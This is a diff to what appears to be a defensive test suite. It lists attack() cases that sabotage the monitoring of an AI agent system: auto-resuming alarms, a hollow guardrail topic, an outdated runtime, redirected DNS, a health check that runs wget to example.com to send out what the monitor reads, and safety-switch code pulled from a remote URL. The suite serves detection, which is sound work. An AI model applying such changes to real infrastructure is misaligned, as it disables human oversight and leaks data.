@@ -49,6 +49,7 @@ WATCHES = (
         "an alarm that is over resumes",
         "Evolution goes on by itself as soon as the memory's alarm is OK; nobody has looked.",
         at("monitoring-agent-memory", "okActions", [RESUME]),
+        "alarms/only-topics",
     ),
     attack(
         "silence in the maths",
@@ -203,6 +204,7 @@ WATCHES = (
         "the guardrail's topic means nothing",
         "The topic is still there by name, and denies what nobody asks.",
         at("agentcore-guardrail", "topicPolicyConfig.topicsConfigs.0.definition", "Questions about gardening in the Middle Ages."),
+        "approved/guardrail",
     ),
     attack(
         "policies that only log",
@@ -218,6 +220,7 @@ WATCHES = (
         "an old version of the agents",
         "The gateway asks what was deployed first, with the guardrail and the limits of then.",
         at("agentcore-runtime-endpoint", "agentRuntimeVersion", "1"),
+        "agentcore/runtime-endpoint",
     ),
 )
 """What watches and guards."""
@@ -227,6 +230,7 @@ REST = (
         "names are looked up elsewhere",
         "The engine finds AWS's services where somebody else's name server says.",
         at("compute-engine-task", f"{CONTAINERS}.0.dnsServers", ["203.0.113.53"]),
+        "approved/properties",
     ),
     attack(
         "another account's secret",
@@ -265,6 +269,7 @@ REST = (
         "a health check that sends",
         "Every half minute a shell sends what the monitor reads.",
         at("compute-monitor-task", f"{CONTAINERS}.0.healthCheck", {"command": ["CMD-SHELL", "wget -q -O- https://example.com || true"]}),
+        "workload/command",
     ),
     attack(
         "only the last image is kept",
@@ -284,6 +289,7 @@ REST = (
                 }
             ),
         ),
+        "workload/images-kept",
     ),
     attack(
         "the key in another region",
@@ -313,6 +319,7 @@ REST = (
             "rules.+",
             {"id": "expire-more", "status": "Enabled", "filter": {"prefix": "evolutions/"}, "expiration": {"days": 1}},
         ),
+        "approved/floors",
     ),
     attack(
         "other name servers for the network",
@@ -351,11 +358,13 @@ REST = (
         "the switch's code from the web",
         "The switch runs what that address gives on the day of the deployment.",
         at("evolution-safety-switch", "code", pulumi.RemoteArchive("https://example.com/switch.zip")),
+        "approved/properties",
     ),
     attack(
         "the subscription goes before it comes",
         "While it is replaced, or when that fails, no alarm reaches the switch.",
         at("evolution-switch-hears-topic", "deleteBeforeReplace", True),
+        "approved/switch-settings",
     ),
 )
 """What is stored, what runs, where it stands, and how it is deployed."""
